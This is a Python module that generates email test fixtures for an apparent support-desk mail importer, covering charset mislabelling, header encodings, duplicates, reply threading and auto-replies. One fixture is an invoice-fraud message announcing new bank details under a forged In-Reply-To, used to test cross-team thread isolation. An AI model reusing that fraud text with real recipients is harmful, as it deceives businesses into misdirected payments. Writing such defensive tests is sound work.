        text=["返回错误代码500", "63个订单卡住了", "华镕科技有限公司"],
    ), raw


@eml
def chinese_gb2312_label() -> tuple[dict, bytes]:
    subject = "发票金额有误，请重新开具"
    text = body("""
        您好，

        贵公司12月1日开具的发票（编号FP-2026-5521）金额为€3,250，
        但合同约定的金额是€2,350，两个数字被写反了。
        请作废这张发票并重新开具。

        另外，发票抬头请写“𠮷祥印务有限公司”，不要写成“吉祥印务”。

        陈镕
        财务部
    """)
    part = MIMEPart(policy=SMTP)
    part.set_content(text.replace("\n", "\r\n").encode("gb18030"), "text", "plain")
    part.set_param("charset", "gb2312")
    raw = assemble(
        [
            ("From", f"{ew('陈镕', 'UTF-8')} <chen.rong@jixiang.example>"),
            ("To", NORTH),
            ("Subject", ew(subject, "GB2312")),
            ("Date", when(1, 14, 22, 17, 8)),
            ("Message-ID", "<2026120114221766021@jixiang.example>"),
            ("MIME-Version", "1.0"),
        ],
        part,
    )
    return entry(
        "12-new-zh-gb2312-label-gb18030-bytes.eml",
        "Chinese wrong-invoice mail labelled GB2312 whose base64 bytes are GB18030 (镕 "
        "from GBK, € as A2 E3, the Extension B character 𠮷 in four bytes): read it as "
        "GB18030, the superset; opens a conversation.",
        "new",
        sender="chen.rong@jixiang.example",
        sender_name="陈镕",
        subject=subject,
        text=["金额为€3,250", "𠮷祥印务有限公司", "陈镕"],
        decoded_with="gb18030",
    ), raw


@eml
def mislabelled_ascii() -> tuple[dict, bytes]:
    raw = (
        b"From: Ola Kowalska <ola@kwiat.example>\r\n"
        b"To: support@north.example\r\n"
        b"Subject: Zamowienie 4471 - brak wysylki\r\n"
        b"Date: Tue, 01 Dec 2026 08:15:11 +0100\r\n"
        b"Message-ID: <20261201081511.4471@kwiat.example>\r\n"
        b"MIME-Version: 1.0\r\n"
        b"Content-Type: text/plain; charset=us-ascii\r\n"
        b"Content-Transfer-Encoding: 7bit\r\n"
        b"\r\n"
        b"Dzie\xc5\x84 dobry,\r\n"
        b"\r\n"
        b"zam\xc3\xb3wienie nr 4471 (ulotki A5, 10 000 szt.) mia\xc5\x82o by\xc4\x87 gotowe"
        b" we wtorek.\r\n"
        b"Do dzi\xc5\x9b nie dostali\xc5\x9bmy \xc5\xbcadnej informacji o wysy\xc5\x82ce.\r\n"
        b"\r\n"
        b"Ola Kowalska\r\n"
        b"Kwiaciarnia Kwiat\r\n"
    )
    return entry(
        "13-new-mislabelled-us-ascii.eml",
        "Says charset=us-ascii and 7bit but the body holds UTF-8 bytes (Polish): the "
        "text is read as UTF-8 rather than replaced; Python's get_content() gives "
        "U+FFFD; opens a conversation.",
        "new",
        sender="ola@kwiat.example",
        sender_name="Ola Kowalska",
        subject="Zamowienie 4471 - brak wysylki",
        text=["zamówienie nr 4471", "Do dziś nie dostaliśmy", "Ola Kowalska"],
        decoded_with="utf-8",
    ), raw


@eml
def unknown_charset() -> tuple[dict, bytes]:
    raw = (
        b"From: Lars Berg <lars.berg@fjell.example>\r\n"
        b"To: support@north.example\r\n"
        b"Subject: Fel belopp pa fakturan for oktober\r\n"
        b"Date: Tue, 01 Dec 2026 11:47:30 +0100\r\n"
        b"Message-ID: <20261201.fjell.8817@fjell.example>\r\n"
        b"MIME-Version: 1.0\r\n"
        b'Content-Type: text/plain; charset="unknown-8bit"\r\n'
        b"Content-Transfer-Encoding: 8bit\r\n"
        b"\r\n"
        b"Hej!\r\n"
        b"\r\n"
        b"Fakturan f\xc3\xb6r oktober \xc3\xa4r fel: 14 500 kr i st\xc3\xa4llet f\xc3\xb6r"
        b" 12 500 kr.\r\n"
        b"Vi har betalt 12 500 kr enligt avtalet och v\xc3\xa4ntar p\xc3\xa5 en"
        b" kreditnota.\r\n"
        b"\r\n"
        b"V\xc3\xa4nliga h\xc3\xa4lsningar\r\n"
        b"Lars Berg\r\n"
        b"Fjell Tryck AB\r\n"
    )
    return entry(
        "14-new-unknown-charset.eml",
        "A Swedish wrong-invoice mail whose charset label 'unknown-8bit' is no codec "
        "(Python's get_content() raises LookupError): the UTF-8 bytes are read as "
        "UTF-8, never a crash; opens a conversation.",
        "new",
        sender="lars.berg@fjell.example",
        sender_name="Lars Berg",
        subject="Fel belopp pa fakturan for oktober",
        text=["Fakturan för oktober är fel", "väntar på en kreditnota", "Lars Berg"],
        decoded_with="utf-8",
        reason="charset",
    ), raw


@eml
def mixed_case_sender() -> tuple[dict, bytes]:
    text = body("""
        Hi,

        since Saturday 28 November none of our EDI orders (ORDERS messages via AS2)
        show up in your customer portal. Our side logs an MDN for each one, so the
        transfer itself works. 11 orders are affected, the oldest is PO-55188.

        Can your integration team have a look?

        Joanna
    """)
    raw = assemble(
        [
            ("From", "Joanna Nowak <Joanna@Harbor.EXAMPLE>"),
            ("To", NORTH),
            ("Subject", "EDI orders missing from your portal since 28 November"),
            ("Date", when(1, 7, 55, 2, 0)),
            ("Message-ID", "<CAHb7x0b.EDI.portal.2026@mail.harbor.example>"),
            ("MIME-Version", "1.0"),
        ],
        text_part(text, "us-ascii", "7bit"),
    )
    return entry(
        "15-new-mixed-case-sender.eml",
        "The known customer writes as Joanna@Harbor.EXAMPLE (recorded in lower case, so "
        "she is the same contact) about a broken EDI integration; the file has bare LF "
        "line ends, as a Maildir keeps them; opens a conversation.",
        "new",
        sender="joanna@harbor.example",
        sender_name="Joanna Nowak",
        subject="EDI orders missing from your portal since 28 November",
        text=["none of our EDI orders", "11 orders are affected"],
    ), raw.replace(b"\r\n", b"\n")


@eml
def raw_utf8_headers() -> tuple[dict, bytes]:
    subject = "Zamówienie 88/2026 – brakujące pudełka"
    text = body("""
        Dzień dobry,

        w dostawie do zamówienia 88/2026 brakuje 250 pudełek na torty.
        Na dokumencie WZ jest 1000 sztuk, a policzyliśmy 750.

        Zofia Kamińska
    """)
    raw = assemble(
        [
            ("From", "Zofia Kamińska <zofia.kaminska@zlotyklos.example>".encode()),
            ("To", NORTH),
            ("Subject", subject.encode()),
            ("Date", when(1, 12, 3, 45, 1)),
            ("Message-ID", "<5c6d7e8f-88-2026@zlotyklos.example>"),
            ("MIME-Version", "1.0"),
        ],
        text_part(text, cte="8bit"),
    )
    return entry(
        "16-new-raw-utf8-headers.eml",
        "Internationalised headers (RFC 6532): raw UTF-8 in the From display name and the "
        "Subject, no encoded words; Python gives the name as surrogate escapes, which "
        "read as UTF-8; opens a conversation.",
        "new",
        sender="zofia.kaminska@zlotyklos.example",
        sender_name="Zofia Kamińska",
        subject=subject,
        text=["brakuje 250 pudełek na torty", "a policzyliśmy 750"],
    ), raw


@eml
def no_subject() -> tuple[dict, bytes]:
    raw = assemble(
        [
            ("From", "Henrik Dahl <henrik.dahl@tundra.example>"),
            ("To", NORTH),
            ("Date", "Tue, 31 Nov 2026 25:61:00 +0100"),
            ("Message-ID", "<tundra.20261201.callback@tundra.example>"),
            ("MIME-Version", "1.0"),
        ],
        text_part(
            "Please call me back about the customs invoice today, "
            "I am at my desk until 17:00.\n\nHenrik\n",
            "us-ascii",
            "7bit",
        ),
    )
    return entry(
        "17-new-no-subject.eml",
        "A two-line mail with no Subject header at all and an impossible Date (31 Nov, "
        "25:61): the subject is empty, the date is the time it arrived; opens a "
        "conversation.",
        "new",
        sender="henrik.dahl@tundra.example",
        sender_name="Henrik Dahl",
        subject="",
        text=["Please call me back about the customs invoice today"],
    ), raw


def menus_message() -> bytes:
    text = body("""
        Good afternoon,

        the 300 menu booklets delivered today show the 2025 prices on pages 4 and 5.
        We sent the corrected PDF on 18 November (your proof reference PR-2231).

        We need reprints before Friday's opening.

        Ruth Okafor
        Baobab Kitchen
    """)
    return assemble(
        [
            ("From", "Ruth Okafor <ruth.okafor@baobab.example>"),
            ("To", NORTH),
            ("Subject", "Menus printed with last year's prices"),
            ("Date", when(1, 15, 31, 7, 0)),
            ("MIME-Version", "1.0"),
        ],
        text_part(text, "us-ascii", "7bit"),
    )


MENUS = {
    "sender": "ruth.okafor@baobab.example",
    "sender_name": "Ruth Okafor",
    "subject": "Menus printed with last year's prices",
    "text": ["show the 2025 prices on pages 4 and 5", "reprints before Friday"],
}


@eml
def no_message_id() -> tuple[dict, bytes]:
    return entry(
        "18-new-no-message-id.eml",
        "A complaint about menus printed from an old proof, sent with no Message-ID "
        "header (a web form's mailer); opens a conversation, and is known again by its "
        "bytes.",
        "new",
        **MENUS,
    ), menus_message()


@eml
def no_message_id_again() -> tuple[dict, bytes]:
    return entry(
        "19-duplicate-no-message-id.eml",
        "The same bytes as 18-new-no-message-id.eml, received a second time: with no "
        "Message-ID to go by it must still be stored once.",
        "duplicate",
        parent="18-new-no-message-id.eml",
        **MENUS,
    ), menus_message()


@eml
def duplicate_rewrapped() -> tuple[dict, bytes]:
    original = invoice_message()
    head, rest = original.split(b"\r\n\r\n", 1)
    head = head.replace(b"Message-ID: <", b"Message-ID:\r\n <")
    head = head.replace(b"To: Support <", b"To:\r\n Support <")
    extra = (
        b"Delivered-To: support@north.example\r\n"
        b"Received: from mx1.north.example (mx1.north.example [192.0.2.25])\r\n"
        b"\tby mail.north.example with LMTP id 4B1C9F2A33\r\n"
        b"\tfor <support@north.example>; Mon, 30 Nov 2026 10:05:12 +0000\r\n"
    )
    raw = extra + head + b"\r\n\r\n" + rest
    return entry(
        "20-duplicate-rewrapped.eml",
        "02-new-alternative.eml again as a second route delivered it: an extra Received "
        "and a Delivered-To on top, the To and Message-ID headers folded onto a second "
        "line; the same Message-ID, so it is stored once.",
        "duplicate",
        parent="02-new-alternative.eml",
        sender="tomas@quarry.example",
        sender_name="Tomás Ibarra",
        subject=INVOICE_SUBJECT,
        text=["0.84 EUR per copy"],
    ), raw


# --- replies -------------------------------------------------------------------------


@eml
def reply_to_sent() -> tuple[dict, bytes]:
    new = body("""
        Thank you for the quick answer.

        Delivery on Wednesday before 12:00 works for us. Please make sure the driver
        calls our gate on +44 20 7946 0199 thirty minutes before arrival.

        We accept the 15% credit you offered.

        Joanna
    """)
    quoted = [
        "Dear Joanna,",
        "",
        "we are sorry: the pallets with your catalogues were loaded on the wrong",
        "truck in our Poznań depot. They are now on their way and will reach you",
        "on Wednesday morning.",
        "",
        "As an apology we will credit 15% of the order value.",
        "",
        "Support team",
    ]
    attribution = "On Tue, 1 Dec 2026 at 10:00, Support <support@north.example> wrote:"
    plain = (
        new
        + "\n"
        + attribution
        + "\n"
        + "".join(f"> {line}\n" if line else ">\n" for line in quoted)
    )
    paragraphs = "".join(f"<div>{html.escape(p)}</div><div><br></div>" for p in new.split("\n\n"))
    markup = (
        f'<div dir="ltr">{paragraphs}</div>'
        '<br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">'
        "On Tue, 1 Dec 2026 at 10:00, Support &lt;"
        '<a href="mailto:support@north.example">support@north.example</a>&gt; wrote:<br></div>'
        '<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;'
        'border-left:1px solid rgb(204,204,204);padding-left:1ex">'
        + "<br>".join(html.escape(line) for line in quoted)
        + "</blockquote></div>\n"
    )
    entity = multipart(
        "alternative", [text_part(plain), html_part(markup)], "000000000000b8e41905e8f1c2aa"
    )
    raw = assemble(
        [
            ("From", JOANNA),
            ("To", SUPPORT),
            ("Subject", "Re: Your spring catalogues: our apology"),
            ("Date", when(1, 11, 32, 8, 0)),
            ("Message-ID", "<CAHb7x0c.apology.reply@mail.harbor.example>"),
            ("In-Reply-To", "<case-12-apology@amends.test>"),
            ("References", "<case-12-apology@amends.test>"),
            ("MIME-Version", "1.0"),
        ],
        entity,
    )
    return entry(
        "21-reply-in-reply-to-sent.eml",
        "The customer answers our apology, found by In-Reply-To (and References) naming "
        "our sent <case-12-apology@amends.test>; Gmail-style English quote, '> ' lines in "
        "the text and a gmail_quote blockquote in the HTML.",
        "reply",
        replies_to_sent="<case-12-apology@amends.test>",
        sender="joanna@harbor.example",
        sender_name="Joanna Nowak",
        subject="Re: Your spring catalogues: our apology",
        text=["Delivery on Wednesday before 12:00 works for us", "We accept the 15% credit"],
        quoted=["loaded on the wrong", "As an apology we will credit 15%"],
    ), raw


@eml
def reply_references_outlook() -> tuple[dict, bytes]:
    text = body("""
        Thank you, the corrected invoice matches our order now.
        Payment will go out on Friday.

        Best regards,
        Tomás Ibarra
        Quarry Tiles S.L.

        -----Original Message-----
        From: Ana Ruiz <ana.ruiz@quarry.example>
        Sent: Tuesday, December 1, 2026 11:20 AM
        To: Tomás Ibarra <tomas@quarry.example>
        Subject: FW: Corrected invoice INV-2026-0931

        Tomás, this is the one from Amends, can you confirm?

        -----Original Message-----
        From: Support <support@north.example>
        Sent: Tuesday, December 1, 2026 10:00 AM
        To: Ana Ruiz <ana.ruiz@quarry.example>
        Subject: Corrected invoice INV-2026-0931

        Dear Ms Ruiz,

        we have replaced invoice INV-2026-0931 with INV-2026-0931-K at 0.62 EUR per copy.
        We are sorry for the trouble.

        Amends support
    """)
    raw = assemble(
        [
            ("From", who("Tomás Ibarra", "tomas@quarry.example")),
            ("To", SUPPORT),
            ("Subject", "RE: FW: Corrected invoice INV-2026-0931"),
            ("Thread-Topic", "Corrected invoice INV-2026-0931"),
            ("Thread-Index", "AQHbQ2ZrYx1mV0cT5kS7a0p2rJc1ZbN4xW9A"),
            ("Date", when(1, 12, 48, 30, 1)),
            (
                "Message-ID",
                "<AM0PR02MB5561D1E2F3A4B5C6D7E8F9A0B1C2D3@AM0PR02MB5561.eurprd02.outlook.example>",
            ),
            (
                "References",
                "<case-7-invoice-correction@amends.test>\r\n"
                " <AM0PR02MB5561C0FFEE0931@AM0PR02MB5561.eurprd02.outlook.example>",
            ),
            ("Content-Language", "en-GB"),
            ("X-MS-Has-Attach", ""),
            ("MIME-Version", "1.0"),
        ],
        text_part(text, "windows-1252"),
    )
    return entry(
        "22-reply-references-only-outlook.eml",
        "Found only by References: no In-Reply-To, and our sent "
        "<case-7-invoice-correction@amends.test> is the first reference, not the last (a "
        "colleague's forward came between); Outlook-style '-----Original Message-----' "
        "blocks, Windows-1252 quoted-printable.",
        "reply",
        replies_to_sent="<case-7-invoice-correction@amends.test>",
        sender="tomas@quarry.example",
        sender_name="Tomás Ibarra",
        subject="RE: FW: Corrected invoice INV-2026-0931",
        text=["the corrected invoice matches our order now", "Payment will go out on Friday"],
        quoted=["this is the one from Amends", "we have replaced invoice INV-2026-0931"],
    ), raw


@eml
def reply_follow_up() -> tuple[dict, bytes]:
    quoted = "".join(f"> {line}\n" if line else ">\n" for line in SPRING_TEXT.splitlines())
    text = (
        "Any news? The fair starts on Thursday and we still have no delivery date.\n"
        "\n"
        "Joanna\n"
        "\n"
        "On Mon, 30 Nov 2026 at 08:47, Joanna Nowak <joanna@harbor.example> wrote:\n" + quoted
    )
    raw = assemble(
        [
            ("From", JOANNA),
            ("To", SUPPORT),
            ("Subject", f"Re: {SPRING_SUBJECT}"),
            ("Date", when(1, 9, 3, 55, 0)),
            ("Message-ID", "<CAHb7x0d.any.news@mail.harbor.example>"),
            (
                "In-Reply-To",
                f'{SPRING_ID} (Joanna Nowak\'s message of\r\n "Mon, 30 Nov 2026 08:47:12 +0000")',
            ),
            ("References", SPRING_ID),
            ("MIME-Version", "1.0"),
        ],
        text_part(text, cte="8bit"),
    )
    return entry(
        "23-reply-follow-up.eml",
        "The customer chases her own first mail: In-Reply-To names 01's Message-ID "
        "followed by an old-style comment, folded; joins 01's conversation.",
        "reply",
        parent="01-new-plain-utf8.eml",
        sender="joanna@harbor.example",
        sender_name="Joanna Nowak",
        subject=f"Re: {SPRING_SUBJECT}",
        text=["Any news?", "still have no delivery date"],
        quoted=["Our order PO-55120 for 2,400 spring catalogues"],
    ), raw


@eml
def reply_token_polish() -> tuple[dict, bytes]:
    text = body("""
        Dzień dobry,

        dziękuję za szybką odpowiedź. Kierowca, który przywiezie nowe etykiety, może
        przyjechać jutro między 6:00 a 9:00, bo piekarnia już wtedy pracuje.
        Złe etykiety odeślemy tym samym kurierem.

        Pozdrawiam
        Paweł Wójcik

        W dniu 1.12.2026 o 10:00, Support <support@north.example> napisał(a):
        > Szanowny Panie,
        >
        > przepraszamy za błąd w dacie ważności. Dodruk 20 000 etykiet jest już
        > w produkcji, a korektę faktury wystawimy po odbiorze wadliwych etykiet.
        >
        > Zespół obsługi klienta
    """)
    raw = assemble(
        [
            ("From", f"{ew(PAWEL, 'ISO-8859-2', 'Q')} <pawel.wojcik@zlotyklos.example>"),
            ("To", f"Support <{TOKEN_ADDRESS}>"),
            ("Subject", "Re: " + words(LABELS_SUBJECT, "iso-8859-2", "Q", "Subject: Re:")),
            ("Date", when(1, 10, 41, 19, 1)),
            ("Message-ID", "<001b01db44a1$2c3d4e50$8596a7b0@zlotyklos.example>"),
            ("MIME-Version", "1.0"),
            ("X-Mailer", "Microsoft Outlook 16.0"),
        ],
        text_part(text, "iso-8859-2", "base64"),
    )
    return entry(
        "24-reply-token-pl-iso-8859-2.eml",
        "Found only by the reply+{token} address (the test puts in the token of 08's "
        "conversation): no In-Reply-To, no References, no subject tag; ISO-8859-2 base64 "
        "text with a Polish 'W dniu … napisał(a):' quote.",
        "reply",
        parent="08-new-pl-windows-1250.eml",
        reply_token=True,
        sender="pawel.wojcik@zlotyklos.example",
        sender_name=PAWEL,
        subject=f"Re: {LABELS_SUBJECT}",
        text=["dziękuję za szybką odpowiedź", "Złe etykiety odeślemy"],
        quoted=["przepraszamy za błąd w dacie ważności"],
    ), raw


@eml
def reply_subject_tag_greek() -> tuple[dict, bytes]:
    text = body("""
        Καλησπέρα,

        λάβαμε το πιστωτικό τιμολόγιο για τις 2.000 ετικέτες. Όλα εντάξει από εμάς.
        Άριστα, ευχαριστούμε για τη γρήγορη εξυπηρέτηση.

        Ελένη

        Στις Τρί, 1 Δεκ 2026 στις 10:00, ο/η Support <support@north.example> έγραψε:
        > Αγαπητή κυρία Γεωργίου,
        >
        > έχετε δίκιο: χρεώσαμε 12.000 ετικέτες αντί για 10.000.
        > Σας στέλνουμε πιστωτικό τιμολόγιο για τη διαφορά.
    """)
    subject = f"Re: {SUBJECT_TAG} {OLIVE_SUBJECT}"
    raw = assemble(
        [
            ("From", who(ELENI, "eleni.georgiou@elaionas.example")),
            ("To", NORTH),
            (
                "Subject",
                f"Re: {SUBJECT_TAG} "
                + words(OLIVE_SUBJECT, "windows-1253", "B", f"Subject: Re: {SUBJECT_TAG}"),
            ),
            ("Date", when(2, 17, 5, 40, 2)),
            ("Message-ID", "<1733155200.771342@elaionas.example>"),
            ("MIME-Version", "1.0"),
        ],
        text_part(text, "windows-1253"),
    )
    return entry(
        "25-reply-subject-token-el-windows-1253.eml",
        "Found only by the [#{conversation}] subject tag (the test puts in 09's "
        "conversation number), written in plain ASCII before the encoded words; "
        "Windows-1253 text (Ά differs from ISO-8859-7) with a Greek 'έγραψε:' quote.",
        "reply",
        parent="09-new-el-iso-8859-7.eml",
        subject_token=True,
        sender="eleni.georgiou@elaionas.example",
        sender_name=ELENI,
        subject=subject,
        text=["λάβαμε το πιστωτικό τιμολόγιο", "Άριστα, ευχαριστούμε"],
        quoted=["χρεώσαμε 12.000 ετικέτες αντί για 10.000"],
    ), raw


@eml
def reply_chinese_gb18030() -> tuple[dict, bytes]:
    subject = f"回复：{MANUALS_SUBJECT}"
    text = body("""
        您好，

        谢谢回复。我们同意分两批送货：第一批2000本请在12月4日前送到，
        其余的下周送。
        加急运费€120由贵方承担，这一点请在邮件里确认。
        收货人请写“王𠮷”（不是“王吉”），否则仓库不会签收。

        王芳

        Support <support@north.example> 于2026年12月1日周二 10:00写道：
        > 王女士，您好：
        >
        > 对于说明书延误，我们深表歉意。
        > 我们可以分两批发货，第一批明天出厂。
    """)
    raw = assemble(
        [
            ("From", f"{ew(WANG, 'GB18030')} <wang.fang@qingsong.example>"),
            ("To", SUPPORT),
            ("Subject", words(subject, "gb18030", "B", "Subject")),
            ("Date", when(2, 9, 5, 18, 8)),
            ("Message-ID", "<2026120209051833302@qingsong.example>"),
            ("In-Reply-To", MANUALS_ID),
            ("References", MANUALS_ID),
            ("MIME-Version", "1.0"),
        ],
        text_part(text, "gb18030", "base64"),
    )
    return entry(
        "26-reply-zh-gb18030.eml",
        "A Chinese reply found by In-Reply-To naming 10's Message-ID; GB18030 base64 text "
        "with € and the four-byte Extension B character 𠮷, subject in gb18030 B words, "
        "a Chinese '…写道：' quote.",
        "reply",
        parent="10-new-zh-gb2312.eml",
        sender="wang.fang@qingsong.example",
        sender_name=WANG,
        subject=subject,
        text=["我们同意分两批送货", "加急运费€120由贵方承担", "王𠮷"],
        quoted=["对于说明书延误，我们深表歉意"],
    ), raw


SOUTH_ID = "<20261130141503.GA2231@fjord.example>"


@eml
def south_new() -> tuple[dict, bytes]:
    text = body("""
        Hello South team,

        since your update on Thursday the label printer integration drops every order
        that has more than 20 lines. We have 9 such orders waiting.

        Oskar Lind
        Fjord Outdoor AB
    """)
    raw = assemble(
        [
            ("From", "Oskar Lind <oskar.lind@fjord.example>"),
            ("To", SOUTH),
            ("Subject", "Label printer integration drops orders"),
            ("Date", when(30, 14, 15, 3, 1, month=11)),
            ("Message-ID", SOUTH_ID),
            ("MIME-Version", "1.0"),
            ("User-Agent", "Mutt/2.2.12"),
        ],
        text_part(text, "us-ascii", "7bit"),
    )
    return entry(
        "27-south-new.eml",
        "Mail to the other team (support@south.example): received into team south, "
        "where it opens a conversation; 28 names it.",
        "new",
        team="south",
        sender="oskar.lind@fjord.example",
        sender_name="Oskar Lind",
        subject="Label printer integration drops orders",
        text=["drops every order", "9 such orders waiting"],
    ), raw


@eml
def forged_in_reply_to() -> tuple[dict, bytes]:
    text = body("""
        Hello,

        further to our conversation, please note our new bank details for all
        open invoices: IBAN XX00 0000 0000 0000 0000 00.
        Please confirm once updated.

        Accounts
    """)
    raw = assemble(
        [
            ("From", "Fjord Accounts <accounts@fjord-payments.example>"),
            ("To", NORTH),
            ("Subject", "Re: Label printer integration drops orders"),
            ("Date", when(1, 13, 0, 2, 1)),
            ("Message-ID", "<d41d8cd98f00b204e9800998ecf8427e@fjord-payments.example>"),
            ("In-Reply-To", SOUTH_ID),
            ("References", SOUTH_ID),
            ("MIME-Version", "1.0"),
        ],
        text_part(text, "us-ascii", "7bit"),
    )
    return entry(
        "28-new-forged-in-reply-to.eml",
        "To team north with an In-Reply-To that names team south's message (27): a "
        "thread is only looked for inside the receiving team, so it opens a new "
        "conversation in north and never joins south's.",
        "new",
        parent="27-south-new.eml",
        other_team_parent=True,
        sender="accounts@fjord-payments.example",
        sender_name="Fjord Accounts",
        subject="Re: Label printer integration drops orders",
        text=["please note our new bank details"],
    ), raw


# --- automatic answers, list mail, delivery reports -----------------------------------------


@eml
def auto_replied() -> tuple[dict, bytes]:
    text = body("""
        I am out of the office until Monday 7 December with limited access to e-mail.
        For urgent orders please contact our office on +47 22 55 50 10.

        Henrik Dahl
    """)
    raw = assemble(
        [
            ("From", "Henrik Dahl <henrik.dahl@tundra.example>"),
            ("To", SUPPORT),
            ("Subject", "Out of office (until 7 December)"),
            ("Date", when(1, 10, 0, 3, 1)),
            ("Message-ID", "<autoreply.14.henrik@tundra.example>"),
            ("In-Reply-To", "<case-14-update@amends.test>"),
            ("References", "<case-14-update@amends.test>"),
            ("Auto-Submitted", "auto-replied"),
            ("MIME-Version", "1.0"),
        ],
        text_part(text, "us-ascii", "7bit"),
    )
    return entry(
        "29-auto-replied.eml",
        "An out-of-office answer to our sent <case-14-update@amends.test> marked "
        "'Auto-Submitted: auto-replied' (RFC 3834): stored, opens no conversation.",
        "auto",
        sender="henrik.dahl@tundra.example",
        sender_name="Henrik Dahl",
        subject="Out of office (until 7 December)",
        text=["I am out of the office until Monday 7 December"],
    ), raw


@eml
def auto_polish_x_autoreply() -> tuple[dict, bytes]:
    subject = "Automatyczna odpowiedź: Reklamacja: źle przycięte etykiety"
    text = body("""
        Dzień dobry,

        dziękuję za wiadomość. Do 4 grudnia jestem na urlopie i nie mam dostępu
        do poczty. W sprawach pilnych proszę dzwonić do biura: +48 58 555 01 23.

        Agnieszka Dąbrowska
    """)
    raw = assemble(
        [
            ("From", who("Agnieszka Dąbrowska", "agnieszka.dabrowska@zlotyklos.example")),
            ("To", NORTH),
            ("Subject", words(subject, "iso-8859-2", "Q", "Subject")),
            ("Date", when(1, 10, 0, 9, 1)),
            ("Message-ID", "<ooo.20261201.agnieszka@zlotyklos.example>"),
            ("In-Reply-To", "<case-15-reprint@amends.test>"),
            ("X-Autoreply", "yes"),
            ("MIME-Version", "1.0"),
        ],
        text_part(text, "iso-8859-2"),
    )
    return entry(
        "30-auto-pl-x-autoreply.eml",
        "A Polish out-of-office whose only mark is the vendor header 'X-Autoreply: yes' "
        "(no Auto-Submitted, no Precedence): stored, opens no conversation.",
        "auto",
        sender="agnieszka.dabrowska@zlotyklos.example",
        sender_name="Agnieszka Dąbrowska",
        subject=subject,
        text=["Do 4 grudnia jestem na urlopie"],
    ), raw


@eml
def auto_greek_precedence() -> tuple[dict, bytes]:
    text = body("""
        Είμαι εκτός γραφείου έως τις 8 Δεκεμβρίου.
        Για επείγοντα θέματα επικοινωνήστε με το λογιστήριο: 210 555 0147.

        Δημήτρης Παππάς
    """)
    raw = assemble(
        [
            ("From", who("Δημήτρης Παππάς", "d.pappas@elaionas.example")),
            ("To", NORTH),
            ("Subject", ew("Εκτός γραφείου", "UTF-8")),
            ("Date", when(1, 12, 0, 0, 2)),
            ("Message-ID", "<ooo.1764583200.pappas@elaionas.example>"),
            ("Precedence", "auto_reply"),
            ("MIME-Version", "1.0"),
        ],
        text_part(text, cte="base64"),
    )
    return entry(
        "31-auto-el-precedence-auto-reply.eml",
        "A Greek out-of-office marked only by 'Precedence: auto_reply' (vendor style), "
        "UTF-8 base64 text: stored, opens no conversation.",
        "auto",
        sender="d.pappas@elaionas.example",
        sender_name="Δημήτρης Παππάς",
        subject="Εκτός γραφείου",
        text=["Είμαι εκτός γραφείου έως τις 8 Δεκεμβρίου"],
    ), raw


@eml
def auto_exchange_oof() -> tuple[dict, bytes]:
    topic = "Ihre Bestellung 4471 – neuer Liefertermin"
    subject = f"Automatische Antwort: {topic}"
    plain = body("""
        Vielen Dank für Ihre Nachricht.

        Ich bin bis einschließlich 11. Dezember nicht im Büro. In dringenden Fällen
        wenden Sie sich bitte an einkauf@alder.example.

        Mit freundlichen Grüßen
        Hannah Brandt
    """)
    markup = (
        '<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">'
        '<style type="text/css">P {margin-top:0;margin-bottom:0;}</style></head>'
        '<body dir="ltr"><div style="font-family:Calibri,Arial,Helvetica,sans-serif">'
        "<p>Vielen Dank für Ihre Nachricht.</p><p>&nbsp;</p>"
        "<p>Ich bin bis einschließlich 11. Dezember nicht im Büro. In dringenden Fällen "
        "wenden Sie sich bitte an einkauf@alder.example.</p><p>&nbsp;</p>"
        "<p>Mit freundlichen Grüßen<br>Hannah Brandt</p></div></body></html>\n"
    )
    entity = multipart(
        "alternative",
        [text_part(plain, cte="base64"), html_part(markup)],
        "_000_FR3P281MB1234OOF5678FR3P281MB1234DEUP_",
    )
    raw = assemble(
        [
            ("From", "Hannah Brandt <h.brandt@alder.example>"),
            ("To", SUPPORT),
            ("Subject", words(subject, "utf-8", "B", "Subject")),
            ("Thread-Topic", words(topic, "utf-8", "B", "Thread-Topic")),
            ("Thread-Index", "AQHbQ4Zk5m0c2t1bT0e7ZkqA8yq1YQ=="),
            ("Date", when(1, 10, 0, 41, 0)),
            ("Message-ID", "<FR3P281MB1234OOF5678@FR3P281MB1234.DEUP281.PROD.OUTLOOK.example>"),
            ("In-Reply-To", "<case-21-new-date@amends.test>"),
            ("References", "<case-21-new-date@amends.test>"),
            ("Content-Language", "de-DE"),
            ("X-MS-Has-Attach", ""),
            ("X-MS-TNEF-Correlator", ""),
            ("X-Auto-Response-Suppress", "All"),
            ("Auto-Submitted", "auto-generated"),
            ("MIME-Version", "1.0"),
        ],
        entity,
    )
    return entry(
        "32-auto-exchange-oof.eml",
        "An Exchange-style German 'Automatische Antwort' (Thread-Topic, Thread-Index, "
        "'X-Auto-Response-Suppress: All', 'Auto-Submitted: auto-generated'), text and "
        "HTML: stored, opens no conversation.",
        "auto",
        sender="h.brandt@alder.example",
        sender_name="Hannah Brandt",
        subject=subject,
        text=["bis einschließlich 11. Dezember nicht im Büro"],
    ), raw


@eml
def mailing_list() -> tuple[dict, bytes]:
    text = body("""
        Hi all,

        our mill announced a 9% price increase for coated paper from 1 January.
        Are others seeing the same from their printers?

        Marek
        --
        Print Buyers Guild mailing list -- print-buyers@lists.guild.example
        To unsubscribe send an email to print-buyers-leave@lists.guild.example
    """)
    name = "Marek Zieliński via Print Buyers"
    raw = assemble(
        [
            ("From", who(name, "print-buyers@lists.guild.example")),
            ("Reply-To", "print-buyers@lists.guild.example"),
            ("To", "print-buyers@lists.guild.example"),
            ("Subject", "[print-buyers] Paper price increase from January"),
            ("Date", when(1, 7, 12, 0, 1)),
            ("Message-ID", "<a4b2c3d4-paper-2027@zielinski.example>"),
            ("List-Id", "Print Buyers Guild discussion <print-buyers.lists.guild.example>"),
            (
                "List-Unsubscribe",
                "<mailto:print-buyers-leave@lists.guild.example>,\r\n"
                " <https://lists.guild.example/lists/print-buyers/leave>",
            ),
            ("List-Post", "<mailto:print-buyers@lists.guild.example>"),
            ("List-Archive", "<https://lists.guild.example/archives/print-buyers/>"),
            ("Precedence", "list"),
            ("Sender", "print-buyers-bounces@lists.guild.example"),
            ("MIME-Version", "1.0"),
        ],
        text_part(text, "us-ascii", "7bit"),
    )
    return entry(
        "33-list-mailing-list.eml",
        "A discussion list's message (List-Id, List-Unsubscribe, List-Post, "
        "'Precedence: list', To the list, not to us): stored, opens no conversation.",
        "list",
        sender="print-buyers@lists.guild.example",
        sender_name=name,
